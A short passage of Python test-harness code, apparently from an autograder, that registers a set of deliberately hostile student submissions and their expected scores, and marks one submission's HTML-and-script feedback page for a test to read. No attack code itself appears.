        student, sub.assignment, builder(sub), gc.expected_scores(sub.assignment, failing),
        origin=origin or f"grading_attacks:{student}", limits="short",
        feedback=student in FEEDBACK,  # the one page tests/test_grading_attacks.py reads
    )


#: the submissions whose feedback page is generated (and read)
FEEDBACK = {"html_and_script_outputs"}


def register(*students: str) -> None:
    """Add these submissions of the hostile class to the session's graded class."""
    for student in students:
        gc.add(entry(student))
